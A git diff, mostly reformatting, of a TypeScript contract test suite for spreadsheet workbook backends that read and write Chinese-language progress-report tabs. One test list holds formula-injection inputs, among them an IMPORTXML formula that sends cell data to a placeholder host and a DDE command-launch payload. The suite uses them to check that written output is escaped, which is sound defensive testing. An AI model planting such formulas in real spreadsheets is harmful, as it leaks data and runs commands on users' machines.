@@ -6,8 +6,8 @@
 // test/contract/backends/, and joins BACKENDS below. The tests are written in this file, not in
 // a module it imports, because `vitest list` reads test files without running them.
 import { describe, expect, it } from 'vitest';
-import { runConsolidation } from '../../shared/run-consolidation.ts';
 import type { ReplaceHooks } from '../../functions/workbooks/guarded-replace.ts';
+import { runConsolidation } from '../../shared/run-consolidation.ts';
 import type { Cell, Changes, KeyedColumns, Tab, Workbook } from '../../shared/workbook.ts';
 import { aWorkbook, FORM_HEADER, goodForm, keyedDrafts, NOW } from '../builders.ts';
 import { csvFolder } from './backends/csv-folder.ts';
@@ -41,7 +41,7 @@ export interface ContractBackend {
 const FORM = '表單回應 1';
 const UNIT_TAB = "It's 填報-民政課";
 const PLAN_TAB = '計畫';
-const TRICKY_TEXT = ['=1+1', '+886 2 2720 8889', '-3天', '@所有人', '=IMPORTXML("https://x.example/?"&A1,"//a")', '=cmd|\'/c calc\'!A1'];
+const TRICKY_TEXT = ['=1+1', '+886 2 2720 8889', '-3天', '@所有人', '=IMPORTXML("https://x.example/?"&A1,"//a")', "=cmd|'/c calc'!A1"];
 
 const formTab = (): Tab => ({
   name: FORM,
@@ -53,8 +53,21 @@ const formTab = (): Tab => ({
     ['2026/4/5 上午 9:15:00', null, '1-1', '第一行\n第二行'],
   ],
 });
-const unitTab = (): Tab => ({ name: UNIT_TAB, rows: [['填報期間', '辦理狀態', '檢核結果'], ['115年3月', '辦理中', '舊的結果'], ['115年4月', '落後']] });
-const planTab = (): Tab => ({ name: PLAN_TAB, rows: [['項次', '具體作法'], ['1-1', '檢討各項申請表單']] });
+const unitTab = (): Tab => ({
+  name: UNIT_TAB,
+  rows: [
+    ['填報期間', '辦理狀態', '檢核結果'],
+    ['115年3月', '辦理中', '舊的結果'],
+    ['115年4月', '落後'],
+  ],
+});
+const planTab = (): Tab => ({
+  name: PLAN_TAB,
+  rows: [
+    ['項次', '具體作法'],
+    ['1-1', '檢討各項申請表單'],
+  ],
+});
 
 const DRAFT_TAB = '年度成效';
 // Keyed columns whose second draft has two lines.
@@ -101,22 +114,45 @@ function workbookContract(name: string, backend: ContractBackend): void {
     });
 
     it('reads back the output tabs it wrote', async () => {
-      const output = { name: "管考總表 O'Brien", rows: [['項次', '單位', '件數', '已完成'], ['1-1', '民政課', 3, true]] };
+      const output = {
+        name: "管考總表 O'Brien",
+        rows: [
+          ['項次', '單位', '件數', '已完成'],
+          ['1-1', '民政課', 3, true],
+        ],
+      };
       const tabs = await writeAndReopen([planTab()], { outputs: [output], verdicts: [] });
       expect(tabs.get(output.name)).toEqual(expected(output.rows));
       expect(tabs.get(PLAN_TAB)).toEqual(planTab().rows);
     });
 
     it('replaces an output tab whole: a shorter, narrower run leaves nothing of the longer one', async () => {
-      const long = { name: '執行成效', rows: [['項次', '具體作法', '執行成效', '佐證資料'], ...Array.from({ length: 30 }, (_, i) => [`${i}`, '作法', '成效', 'https://x.example/']), ['最後', '', '', '尾']] };
-      const short = { name: '執行成效', rows: [['項次', '具體作法'], ['1-1', '新的']] };
+      const long = {
+        name: '執行成效',
+        rows: [
+          ['項次', '具體作法', '執行成效', '佐證資料'],
+          ...Array.from({ length: 30 }, (_, i) => [`${i}`, '作法', '成效', 'https://x.example/']),
+          ['最後', '', '', '尾'],
+        ],
+      };
+      const short = {
+        name: '執行成效',
+        rows: [
+          ['項次', '具體作法'],
+          ['1-1', '新的'],
+        ],
+      };
       const tabs = await writeAndReopen([planTab()], { outputs: [long], verdicts: [] }, { outputs: [short], verdicts: [] });
       expect(tabs.get('執行成效')).toEqual(short.rows);
     });
 
     it('changes only the 檢核結果 cells of a user tab, adding the column where it was missing', async () => {
       const verdictColumns: Changes['verdicts'] = [
-        { tab: FORM, column: 4, values: ['檢核結果', '通過', '填報單位「社會課」不負責此作法。\n缺少執行成效。', '', '通過（與第2列重複，僅計一次）'] },
+        {
+          tab: FORM,
+          column: 4,
+          values: ['檢核結果', '通過', '填報單位「社會課」不負責此作法。\n缺少執行成效。', '', '通過（與第2列重複，僅計一次）'],
+        },
         { tab: UNIT_TAB, column: 2, values: ['檢核結果', '通過'] },
       ];
       const tabs = await writeAndReopen([planTab(), formTab(), unitTab()], { outputs: [], verdicts: verdictColumns });
@@ -128,14 +164,22 @@ function workbookContract(name: string, backend: ContractBackend): void {
         ['2026/4/5 上午 9:15:00', null, '1-1', '第一行\n第二行', '通過（與第2列重複，僅計一次）'],
       ]);
       // The old result in row 2 is replaced; row 3, past the values, keeps its cells.
-      expect(tabs.get(UNIT_TAB)).toEqual([['填報期間', '辦理狀態', '檢核結果'], ['115年3月', '辦理中', '通過'], ['115年4月', '落後']]);
+      expect(tabs.get(UNIT_TAB)).toEqual([
+        ['填報期間', '辦理狀態', '檢核結果'],
+        ['115年3月', '辦理中', '通過'],
+        ['115年4月', '落後'],
+      ]);
       expect(tabs.get(PLAN_TAB)).toEqual(planTab().rows);
     });
 
     it('keeps a note in a column without a header when a run adds the 檢核結果 column', async () => {
       const noted: Tab = {
         name: '填報-民政課',
-        rows: [['具體作法', '填報期間', '辦理狀態', '執行成效'], ['2-1', '115年3月', '辦理中', '完成問卷設計', '主管交辦：下週再確認'], ['2-1', '115年4月', '辦理中', '回收問卷']],
+        rows: [
+          ['具體作法', '填報期間', '辦理狀態', '執行成效'],
+          ['2-1', '115年3月', '辦理中', '完成問卷設計', '主管交辦：下週再確認'],
+          ['2-1', '115年4月', '辦理中', '回收問卷'],
+        ],
       };
       const location = await backend.create([...aWorkbook([]).tabs, noted]);
       const workbook = backend.open(location);
@@ -194,9 +238,21 @@ function workbookContract(name: string, backend: ContractBackend): void {
     }
 
     it('adds appended rows below the last row of a user tab, and nothing else changes', async () => {
-      const appends = [{ tab: UNIT_TAB, rows: [['115年5月', '辦理中', '待填報（狀態沿用上期，請確認）'], ['115年5月', null, '待填報']] }];
+      const appends = [
+        {
+          tab: UNIT_TAB,
+          rows: [
+            ['115年5月', '辦理中', '待填報（狀態沿用上期，請確認）'],
+            ['115年5月', null, '待填報'],
+          ],
+        },
+      ];
       const tabs = await writeAndReopen([planTab(), formTab(), unitTab()], { outputs: [], verdicts: [], appends });
-      expect(tabs.get(UNIT_TAB)).toEqual([...unitTab().rows, ['115年5月', '辦理中', '待填報（狀態沿用上期，請確認）'], ['115年5月', null, '待填報']]);
+      expect(tabs.get(UNIT_TAB)).toEqual([
+        ...unitTab().rows,
+        ['115年5月', '辦理中', '待填報（狀態沿用上期，請確認）'],
+        ['115年5月', null, '待填報'],
+      ]);
       expect(tabs.get(FORM)).toEqual(formTab().rows);
       expect(tabs.get(PLAN_TAB)).toEqual(planTab().rows);
     });
@@ -206,7 +262,10 @@ function workbookContract(name: string, backend: ContractBackend): void {
       (edit &&
         (async (location: string, tab: string, row: readonly Cell[]) => {
           const held = (await backend.open(location).read()).tabs;
-          await edit(location, held.map((candidate) => (candidate.name === tab ? { name: tab, rows: [...candidate.rows, row] } : candidate)));
+          await edit(
+            location,
+            held.map((candidate) => (candidate.name === tab ? { name: tab, rows: [...candidate.rows, row] } : candidate)),
+          );
         }));
     if (typeRow) {
       it('appends after a row a unit typed between the read and the write, never over it', async () => {
@@ -215,7 +274,10 @@ function workbookContract(name: string, backend: ContractBackend): void {
         await workbook.read();
         await typeRow(location, UNIT_TAB, ['115年4月', '已完成', '單位剛打的一列']);
         await workbook.write({ outputs: [], verdicts: [], appends: [{ tab: UNIT_TAB, rows: [['115年5月', '辦理中']] }] });
-        expect((await tabsOf(backend.open(location))).get(UNIT_TAB)?.slice(3)).toEqual([['115年4月', '已完成', '單位剛打的一列'], ['115年5月', '辦理中']]);
+        expect((await tabsOf(backend.open(location))).get(UNIT_TAB)?.slice(3)).toEqual([
+          ['115年4月', '已完成', '單位剛打的一列'],
+          ['115年5月', '辦理中'],
+        ]);
       });
     }
 
@@ -248,10 +310,16 @@ function workbookContract(name: string, backend: ContractBackend): void {
 
     if (edit) {
       it('writes keyed columns beside their keys when the user sorted the tab and typed text between the read and the write', async () => {
-        const location = await backend.create([planTab(), { name: DRAFT_TAB, rows: [['項次', '草稿', '公告文字', '狀態'], ['1-1'], ['1-2']] }]);
+        const location = await backend.create([
+          planTab(),
+          { name: DRAFT_TAB, rows: [['項次', '草稿', '公告文字', '狀態'], ['1-1'], ['1-2']] },
+        ]);
         const workbook = backend.open(location);
         await workbook.read();
-        await edit(location, [planTab(), { name: DRAFT_TAB, rows: [['項次', '草稿', '公告文字', '狀態'], ['1-2', null, '剛寫好的文字'], ['1-1']] }]);
+        await edit(location, [
+          planTab(),
+          { name: DRAFT_TAB, rows: [['項次', '草稿', '公告文字', '狀態'], ['1-2', null, '剛寫好的文字'], ['1-1']] },
+        ]);
         await workbook.write({ outputs: [], verdicts: [], keyedColumns: [drafts()] });
         expect((await tabsOf(backend.open(location))).get(DRAFT_TAB)).toEqual([
           ['項次', '草稿', '公告文字', '狀態'],
@@ -265,7 +333,9 @@ function workbookContract(name: string, backend: ContractBackend): void {
       const output = { name: '檢核錯誤', rows: [['說明'], ...TRICKY_TEXT.map((value) => [value])] };
       const verdictColumns = [{ tab: UNIT_TAB, column: 2, values: ['檢核結果', TRICKY_TEXT[0] ?? '', TRICKY_TEXT[3] ?? ''] }];
       const tabs = await writeAndReopen([unitTab()], { outputs: [output], verdicts: verdictColumns });
-      expect(tabs.get('檢核錯誤')).toEqual(backend.outputsForExcel ? [['說明'], ...TRICKY_TEXT.map((value) => [`'${value}`])] : output.rows);
+      expect(tabs.get('檢核錯誤')).toEqual(
+        backend.outputsForExcel ? [['說明'], ...TRICKY_TEXT.map((value) => [`'${value}`])] : output.rows,
+      );
       expect(tabs.get(UNIT_TAB)?.map((row) => row[2])).toEqual(['檢核結果', '=1+1', '@所有人']);
     });
 
